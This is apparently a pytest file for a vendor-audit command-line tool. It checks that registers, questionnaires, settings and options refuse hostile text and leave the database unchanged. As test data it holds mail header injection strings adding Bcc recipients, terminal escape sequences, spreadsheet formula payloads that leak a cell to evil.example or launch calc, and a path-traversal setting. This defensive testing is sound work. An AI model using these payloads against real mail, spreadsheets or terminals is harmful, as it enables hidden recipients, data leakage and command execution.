"""Text that vendors and operators write cannot split a mail header, add a recipient, or stop
the notifications of other vendors; it is refused at the door with its file, line and field,
and nothing changes."""

from __future__ import annotations

import datetime as dt
import json
from email import policy
from email.parser import BytesParser
from pathlib import Path

import pytest
import yaml

from audit.inputs import address_problem, name_problem, one_line, printable, text_problem
from audit.notify import NotDeliverableError, Notice, Outbox
from audit.workspace import Workspace
from tests.conftest import EXAMPLES, snapshot

GOOD = ("ciso@insurer.example", "first.last+tag@sub.example.co.uk", "o'brien@x.example")
BAD = (
    "victim@evil.example\n",
    "victim@evil.example,internal-mailbox",
    "ciso@insurer.example, spy@evil.example",
    "a@x.example\r\nBcc: spy@evil.example",
    "internal-mailbox",
    "a@localhost",
    "a@[10.0.0.1]",
    "Name <a@x.example>",
    "a@x.example (comment)",
    "a@@x.example",
    "",
    "a@x.example;b@y.example",
    "\u202ea@x.example",
    "a" * 250 + "@x.example",
)


@pytest.mark.parametrize("value", GOOD)
def test_plain_addresses_pass(value: str) -> None:
    assert address_problem(value) is None


@pytest.mark.parametrize("value", BAD)
def test_anything_but_one_mailbox_is_refused(value: str) -> None:
    assert address_problem(value) is not None


def test_names_text_and_display() -> None:
    assert name_problem("Acme\r\nBcc: x") and name_problem("Esc\x1b[2J") and name_problem("a\tb")
    assert name_problem("Zürich Payroll S.à r.l. — 24/7") is None
    assert text_problem("line one\nline two\ttab") is None
    assert text_problem("bell\x07") and text_problem("\x1b]8;;https://evil.example\x07")
    assert one_line("Acme\r\nBcc: spy@evil.example") == "Acme Bcc: spy@evil.example"
    assert printable("red \x1b[31m!") == "red \\x1b[31m!"


def _register(tmp_path: Path, **changes: object) -> Path:
    data = yaml.safe_load((EXAMPLES / "vendors.yaml").read_text())
    vendor = data["vendors"][0]
    for key, value in changes.items():
        if key == "contact_email":
            vendor["contacts"][0]["email"] = value
        else:
            vendor[key] = value
    path = tmp_path / "register.json"
    path.write_text(json.dumps(data, default=str))
    return path


@pytest.mark.parametrize(
    ("change", "message"),
    [
        ({"name": "Acme\r\nBcc: attacker@evil.example"}, "control characters"),
        ({"name": "Esc\x1b[2J\x1b[31mRED"}, "control characters"),
        ({"owner": "owner@client.example\n"}, "e-mail"),
        ({"contact_email": "victim@evil.example,internal-mailbox"}, "one e-mail address"),
        ({"contact_email": "victim@evil.example\n"}, "e-mail"),
    ],
)
def test_the_register_refuses_hostile_text_and_changes_nothing(
    dcli, db_workspace: Workspace, tmp_path: Path, change: dict, message: str
) -> None:
    assert dcli("vendors", "import", EXAMPLES / "vendors.yaml").exit_code == 0
    before = snapshot(db_workspace.database_url)
    result = dcli("vendors", "import", _register(tmp_path, **change), "--update")
    assert result.exit_code == 2, result.output
    assert "register.json" in result.output and message in result.output
    assert "Traceback" not in result.output
    assert snapshot(db_workspace.database_url) == before


def test_a_finding_owner_is_one_address(dcli, db_workspace: Workspace, tmp_path: Path) -> None:
    assert dcli("vendors", "import", EXAMPLES / "vendors.yaml").exit_code == 0
    before = snapshot(db_workspace.database_url)
    for owner in ("ciso@insurer.example, spy@evil.example", "ciso@insurer.example\r\nBcc: x@y.z"):
        result = dcli("findings", "update", "1", "--owner", owner)
        assert result.exit_code == 2 and "--owner" in result.output, result.output
    result = dcli("findings", "update", "1", "--note", "ok", "--by", "Eve\x1b[2J")
    assert result.exit_code == 2 and "--by" in result.output
    assert snapshot(db_workspace.database_url) == before


def test_messages_are_built_from_parsed_mailboxes(tmp_path: Path) -> None:
    outbox = Outbox(tmp_path)
    now = dt.datetime(2026, 3, 5, 6, 0, tzinfo=dt.UTC)
    path = outbox.queue(
        Notice("k1", ("a@x.example", "b@y.example"), "Acme\r\nBcc: spy@evil.example", "body"),
        "audit@client.example",
        now,
    )
    message = BytesParser(policy=policy.SMTP).parsebytes(path.read_bytes())
    assert message["To"] == "a@x.example, b@y.example"
    assert message["Subject"] == "Acme Bcc: spy@evil.example" and message["Bcc"] is None
    for stored in ("victim@evil.example\n", "victim@evil.example,internal-mailbox"):
        with pytest.raises(NotDeliverableError):
            outbox.queue(Notice("k2", (stored,), "s", "b"), "audit@client.example", now)
    assert sorted(p.name for p in outbox.waiting()) == [path.name]


def test_tables_and_csv_show_vendor_text_and_never_obey_it() -> None:
    import csv
    import io

    from audit.cli.console import SafeConsole, styled
    from audit.cli.output import Format, render

    rows = [
        {"id": "1", "name": "[/] [link=https://evil.example]x[/link] [blink]", "file": "a.md"},
        {"id": "2", "name": "Esc\x1b[2J\x1b]8;;https://evil.example/osc8\x07here", "file": "b"},
        {"id": "3", "name": '=HYPERLINK("http://evil.example/?"&A1,"Click")', "file": "@SUM(1+1)"},
        {"id": "4", "name": "+cmd|' /C calc'!A0", "file": "-2+3+cmd|' /C calc'!A0"},
        {"id": "5", "name": "-2.5", "file": "\uff1dcmd"},
    ]
    buffer = io.StringIO()
    screen = SafeConsole(file=buffer, width=200, markup=False, force_terminal=True)
    render(rows, ["id", "name", "file"], Format.TABLE, console=screen, wide=True)
    screen.print("vendor \x1b[31mred")
    screen.print(styled(("Esc\x1b[2J", "bold"), " and \x9b31m"))
    shown = buffer.getvalue()
    assert "[link=https://evil.example]x[/link]" in shown and "[blink]" in shown
    assert "\\x1b[2J" in shown and "\\x1b]8;;" in shown and "\\x07" in shown
    assert "\x1b[2J" not in shown and "\x1b]8" not in shown and "\x9b" not in shown
    out = io.StringIO()
    render(rows, ["id", "name", "file"], Format.CSV, console=SafeConsole(file=out))
    cells = list(csv.reader(io.StringIO(out.getvalue())))[1:]
    assert cells[2] == ["3", '\'=HYPERLINK("http://evil.example/?"&A1,"Click")', "'@SUM(1+1)"]
    assert cells[3] == ["4", "'+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"]
    assert cells[4] == ["5", "-2.5", "'\uff1dcmd"]
    assert "\x1b" not in out.getvalue()


def _import_with(dcli, workspace: Workspace, tmp_path: Path, field: str, written: str):  # noqa: ANN202
    """Issue brightside-marketing's questionnaire, answer it all, write `written` as the
    `field` (answer or comment) of SVC-PPL-01, and import it; the database must not change."""
    from tests.questionnaire.test_submissions import VENDOR, answer_all

    assert dcli("vendors", "import", EXAMPLES / "vendors.yaml").exit_code == 0
    path = tmp_path / "q.yaml"
    assert dcli("questionnaire", "issue", VENDOR, "-o", path).exit_code == 0
    answer_all(workspace, path, "final")
    lines = path.read_text().splitlines()
    at = lines.index("  SVC-PPL-01:")
    spot = next(i for i in range(at, len(lines)) if lines[i].startswith(f"    {field}:"))
    lines[spot] = f"    {field}: {written}"
    path.write_text("\n".join(lines) + "\n")
    before = snapshot(workspace.database_url)
    result = dcli("questionnaire", "import", path, "--allow-unanswered")
    assert result.exit_code == 2, result.output
    assert "SVC-PPL-01" in result.output
    assert snapshot(workspace.database_url) == before
    return result


@pytest.mark.parametrize("written", ["-100", "-.inf", ".inf", ".nan", "1" + "0" * 400, "-0.5"])
def test_number_answers_are_finite_and_not_negative(
    dcli, db_workspace: Workspace, tmp_path: Path, written: str
) -> None:
    result = _import_with(dcli, db_workspace, tmp_path, "answer", written)
    assert "from 0 to" in result.output or "write a number" in result.output


def test_dates_far_in_the_future_are_refused_at_every_door(
    dcli, db_workspace: Workspace, tmp_path: Path
) -> None:
    from tests.questionnaire.test_submissions import VENDOR, answer_all

    assert dcli("vendors", "import", EXAMPLES / "vendors.yaml").exit_code == 0
    before = snapshot(db_workspace.database_url)
    document = tmp_path / "sla.md"
    document.write_text("SLA report")
    added = dcli(
        "evidence", "add", VENDOR, document, "--kind", "sla_report", "--issued", "9999-12-31"
    )
    assert added.exit_code == 2 and "--issued" in added.output and "outside" in added.output
    assert dcli("due", "--as-of", "0001-01-01").exit_code == 2
    registered = dcli("vendors", "import", _register(tmp_path, onboarded="9999-12-31"), "--update")
    assert registered.exit_code == 2 and "onboarded" in registered.output
    path = tmp_path / "q.yaml"
    assert dcli("questionnaire", "issue", VENDOR, "-o", path).exit_code == 0
    after_issue = snapshot(db_workspace.database_url)
    assert {
        k: v for k, v in after_issue.items() if k not in ("questionnaire", "question_spec")
    } == {k: v for k, v in before.items() if k not in ("questionnaire", "question_spec")}
    answer_all(db_workspace, path, "final")
    (tmp_path / "far.md").write_text("SLA report, far future")
    text = path.read_text().replace(
        "evidence: []\nanswers:",
        'evidence: [{file: far.md, kind: sla_report, issued: "9999-12-31"}]\nanswers:',
    )
    path.write_text(text)
    result = dcli("questionnaire", "import", path, "--allow-unanswered")
    assert result.exit_code == 2, result.output
    assert "far.md" in result.output and "outside the dates accepted" in result.output
    assert snapshot(db_workspace.database_url) == after_issue


def test_a_fifo_given_as_evidence_is_refused_not_waited_on(
    dcli, db_workspace: Workspace, tmp_path: Path
) -> None:
    import os
    import signal

    assert dcli("vendors", "import", EXAMPLES / "vendors.yaml").exit_code == 0
    pipe = tmp_path / "pipe.md"
    os.mkfifo(pipe)
    before = snapshot(db_workspace.database_url)

    def hung(*_: object) -> None:
        raise TimeoutError("waited on a FIFO")

    previous = signal.signal(signal.SIGALRM, hung)
    signal.alarm(20)
    try:
        result = dcli("evidence", "add", "meridian-payroll", pipe, "--kind", "sla_report",
                      "--issued", "2025-01-01")  # fmt: skip
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)
    assert result.exit_code == 2 and "not a regular file" in result.output, result.output
    assert snapshot(db_workspace.database_url) == before


@pytest.mark.parametrize(
    "comment",
    ['"wipe \\x1b[2J screen"', '"nul \\0 byte"', '"osc \\x1b]8;;https://evil.example\\x07"'],
)
def test_comments_with_control_characters_are_refused_on_both_databases(
    dcli, db_workspace: Workspace, tmp_path: Path, comment: str
) -> None:
    result = _import_with(dcli, db_workspace, tmp_path, "comment", comment)
    assert "control characters" in result.output


@pytest.mark.parametrize(
    "args",
    [
        ("due", "--within", "-5"),
        ("due", "--within", "99999999999"),
        ("scheduler", "--every", "0"),
        ("scheduler", "--every", "99999999999999"),
        ("evidence", "list", "--expiring-within", "-1"),
        ("findings", "show", "99999999999999999999999"),
        ("findings", "update", "0", "--note", "x"),
        ("vendors", "list", "--limit", "99999999999999999999"),
        ("report", "meridian-payroll", "--run", "99999999999999999999"),
        ("report", "portfolio", "-o", "{tmp}"),
        ("report", "portfolio", "-o", "/proc/no/such/folder/report.pdf"),
        ("due", "--as-of", "9999-12-31"),
    ],
)
def test_bad_options_are_refused_and_change_nothing(
    dcli, db_workspace: Workspace, tmp_path: Path, args: tuple[str, ...]
) -> None:
    assert dcli("vendors", "import", EXAMPLES / "vendors.yaml").exit_code == 0
    before = snapshot(db_workspace.database_url)
    files = sorted(p.relative_to(db_workspace.root) for p in db_workspace.root.rglob("*"))
    result = dcli(*(a.replace("{tmp}", str(tmp_path)) for a in args))
    assert result.exit_code == 2, result.output
    assert "Traceback" not in result.output
    assert snapshot(db_workspace.database_url) == before
    after = sorted(p.relative_to(db_workspace.root) for p in db_workspace.root.rglob("*"))
    assert [p for p in after if p not in files and "cache" not in p.parts] == []


@pytest.mark.parametrize(
    ("top", "table", "message"),
    [
        ('database_url = "notaurl"', "", "must be a database URL"),
        ('database_url = "foo://x"', "", "cannot use database URL"),
        ('policy = "../../../etc/passwd"', "", "no path"),
        ('policy = "default"\nsigning = "yes"', "", "signing must be a table"),
        ("", 'name = "Acme\\u001b[2J"', "control characters"),
        ("", 'contact = "a@x.example, b@y.example"', "one e-mail address"),
    ],
)
def test_broken_settings_are_named(
    runner, tmp_path: Path, top: str, table: str, message: str
) -> None:
    from audit.cli import app
    from audit.workspace import init_workspace

    workspace = init_workspace(tmp_path / "ws")
    config = workspace.root / "audit.toml"
    text = config.read_text()
    if top:
        text = text.replace('policy = "default"\n', top + "\n", 1)
    if table:
        text = text.replace("[organisation]\n", "[organisation]\n" + table + "\n", 1)
    config.write_text(text)
    (tmp_path / "out").mkdir()
    result = runner.invoke(
        app,
        ["--workspace", str(workspace.root), "report", "portfolio", "-o", tmp_path / "out/p.pdf"],
    )
    assert result.exit_code == 2, result.output
    assert message in result.output and "Traceback" not in result.output
    assert not (workspace.root / ".audit" / "keys" / "signing-key.pem").exists()


def test_one_refused_mailbox_does_not_hold_back_the_others(tmp_path: Path) -> None:
    from aiosmtpd.controller import Controller

    from audit.notify import SmtpConfig
    from tests.cli.test_scheduler_cli import Collector, free_port

    class Refusing(Collector):
        async def handle_RCPT(self, server, session, envelope, address, options):  # noqa: ANN001, ANN201, N802
            if address == "gone@vendor.example":
                return "550 5.1.1 no such mailbox"
            envelope.rcpt_tos.append(address)
            return "250 OK"

    outbox = Outbox(tmp_path)
    now = dt.datetime(2026, 3, 5, 6, 0, tzinfo=dt.UTC)
    for key in ("a", "b", "c", "d"):
        to = ("gone@vendor.example",) if key in ("a", "c") else (f"{key}@client.example",)
        outbox.queue(Notice(key, to, f"notice {key}", "body"), "audit@client.example", now)
    port = free_port()
    handler = Refusing()
    controller = Controller(handler, hostname="127.0.0.1", port=port)
    controller.start()
    try:
        config = SmtpConfig("127.0.0.1", port, "audit@client.example", False, None, None)
        sent, pending, problem = outbox.flush(config)
    finally:
        controller.stop()
    assert (sent, pending) == (2, 0)
    assert problem is not None and "gone@vendor.example" in problem
    assert sorted(m["Subject"] for m in handler.messages) == ["notice b", "notice d"]
    assert len(list((tmp_path / "refused").glob("*.eml"))) == 2


def test_the_workspace_state_is_private_whatever_the_umask(tmp_path: Path) -> None:
    import os
    import stat

    from audit.workspace import init_workspace

    previous = os.umask(0o022)
    try:
        workspace = init_workspace(tmp_path / "ws")
    finally:
        os.umask(previous)
    assert stat.S_IMODE(workspace.state_dir.stat().st_mode) == 0o700
    assert stat.S_IMODE((workspace.root / "audit.toml").stat().st_mode) == 0o600


def test_issued_questionnaires_are_private(dcli, db_workspace: Workspace, tmp_path: Path) -> None:
    import os
    import stat

    from tests.questionnaire.test_submissions import VENDOR

    assert dcli("vendors", "import", EXAMPLES / "vendors.yaml").exit_code == 0
    previous = os.umask(0o022)
    try:
        assert dcli("questionnaire", "issue", VENDOR).exit_code == 0
    finally:
        os.umask(previous)
    (issued,) = (db_workspace.root / "questionnaires").iterdir()
    assert stat.S_IMODE(issued.stat().st_mode) == 0o600
